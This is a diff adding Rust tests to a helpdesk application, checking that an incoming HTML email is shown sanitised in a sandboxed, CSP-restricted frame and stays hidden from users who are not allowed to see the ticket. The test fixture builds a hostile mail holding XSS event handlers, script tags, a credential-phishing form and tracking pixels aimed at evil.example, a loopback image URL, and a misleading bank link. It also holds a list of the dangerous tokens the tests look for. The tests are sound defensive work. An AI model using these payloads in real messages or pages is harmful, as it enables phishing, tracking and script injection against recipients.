@@ -146,6 +146,90 @@ fn a_mail_shows_its_files_and_its_pictures_where_its_text_has_them() {
     }
 }
 
+/// A mail as an attacker would write it, with a picture of its own.
+fn hostile(from: &str) -> String {
+    let html = "<style>p{background:url(https://evil.example/s)}</style><script>document.title='x'</script>\
+                <p style=3D\"color:red;position:fixed;background:url(https://evil.example/b)\" onclick=3D\"x()\">Guten Tag</p>\
+                <form action=3D\"https://evil.example/f\"><input name=3Dpassword><button>Anmelden</button></form>\
+                <img src=3D\"cid:one\" alt=3D\"eins\" onerror=3D\"x()\"><img src=3D\"https://evil.example/pixel?u=3D1\">\
+                <img src=3D\"http://127.0.0.1:1/\"><iframe src=3D\"https://evil.example/i\"></iframe>\
+                <svg onload=3D\"x()\"></svg><a href=3D\"https://evil.example/l\">www.bank.example</a><a href=3D\"javascript:x()\">y</a>";
+    format!(
+        "From: {from}\nTo: support@shop-levels.example\nSubject: Lager\nContent-Type: multipart/related; boundary=b\n\n\
+         --b\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n{html}\n\
+         --b\nContent-Type: image/gif; name=eins.gif\nContent-ID: <one>\nContent-Disposition: inline\n\nGIF89a;\n--b--\n"
+    )
+}
+
+#[test]
+fn a_mail_is_shown_as_it_was_sent_in_a_frame_that_can_do_nothing() {
+    let web = Web::of("shop-levels");
+    let mine = web.desk.customer("Teekontor", "level-3");
+    let other = web.desk.customer("Kaffee", "level-3");
+    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
+    web.desk.receives(&hostile(&contact.email));
+    let foreign = web.desk.opens(&other.actor(), "Anderes").number;
+    let (_, jana) = web.staff("Jana", Role::Agent);
+    let (owner, stranger) = (web.contact(&mine), web.contact(&other));
+    for (tickets, reader) in [("/tickets", &jana), ("/portal/tickets", &owner)] {
+        let ticket = reader.get(&format!("{tickets}/1")).body;
+        let path =
+            ticket.split("class=\"as-sent\"><a href=\"/shop-levels").nth(1).unwrap_or_else(|| panic!("{ticket}"));
+        let path = path.split('"').next().unwrap();
+        let page = reader.get(path);
+        assert!(page.body.contains("2 pictures from elsewhere were not loaded"), "{}", page.body);
+        let frame = page.body.split("<iframe").nth(1).unwrap().split('>').next().unwrap();
+        assert!(frame.contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\""), "{frame}");
+        assert!(page.headers["content-security-policy"].to_str().unwrap().ends_with("; frame-src 'self'"));
+        let framed = format!("{path}/frame");
+        assert!(frame.contains(&format!("src=\"/shop-levels{framed}\"")), "{frame}");
+
+        let shown = reader.get(&framed);
+        let policy = shown.headers["content-security-policy"].to_str().unwrap();
+        for words in ["default-src 'none'", "img-src data:;", "form-action 'none'", "sandbox allow-popups"] {
+            assert!(policy.contains(words), "{policy}");
+        }
+        assert!(!policy.contains("allow-scripts") && !policy.contains("same-origin"), "{policy}");
+        assert_eq!(
+            (&shown.headers["cache-control"], &shown.headers["referrer-policy"], &shown.headers["x-frame-options"]),
+            (&"no-store".parse().unwrap(), &"no-referrer".parse().unwrap(), &"SAMEORIGIN".parse().unwrap())
+        );
+        let body = shown.body.split("<body").nth(1).unwrap();
+        assert!(body.contains("<p style=\"color:red\">Guten Tag</p>"), "{body}");
+        assert!(body.contains("src=\"data:image/gif;base64,R0lGODlhOw"), "{body}");
+        assert!(body.contains("title=\"https://evil.example/l\"") && body.contains("</a> (evil.example)"), "{body}");
+        for bad in ["script", "onclick", "onerror", "<form", "<input", "<iframe", "<svg", "url(", "pixel", "127.0.0.1"]
+        {
+            assert!(!body.contains(bad), "{bad}: {body}");
+        }
+
+        // Whoever does not see the ticket sees nothing; neither does another ticket's number open it.
+        for path in [path, &framed] {
+            let through = path.replace("tickets/1/", &format!("tickets/{foreign}/"));
+            assert_eq!(reader.get(&through).status, 404, "{through}");
+            assert_eq!(reader.get(&path.replace("/messages/", "/messages/9")).status, 404);
+            assert_eq!(stranger.get(path).status, if tickets == "/tickets" { 303 } else { 404 });
+            assert_eq!(web.browser().get(path).status, 303);
+        }
+    }
+}
+
+#[test]
+fn what_came_another_way_is_not_shown_as_sent_and_a_text_is_shown_as_text() {
+    let web = Web::of("shop-levels");
+    let mine = web.desk.customer("Teekontor", "level-3");
+    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
+    web.desk.receives(&format!("From: {}\nSubject: Text\n\nSeit <b>heute\n> Zitat\n", contact.email));
+    web.desk.opens(&mine.actor(), "Aus dem Portal");
+    let (_, jana) = web.staff("Jana", Role::Agent);
+    let page = jana.get("/tickets/1").body;
+    let path = page.split("class=\"as-sent\"><a href=\"/shop-levels").nth(1).unwrap().split('"').next().unwrap();
+    let shown = jana.get(&format!("{path}/frame")).body;
+    assert!(shown.contains("Seit &lt;b&gt;heute") && shown.contains("&gt; Zitat"), "{shown}");
+    assert!(!jana.get(path).body.contains("from elsewhere were"), "there are no pictures");
+    assert!(!jana.get("/tickets/2").body.contains("as-sent"));
+}
+
 #[test]
 fn a_message_says_what_of_its_mail_it_leaves_out() {
     let web = Web::of("shop-levels");
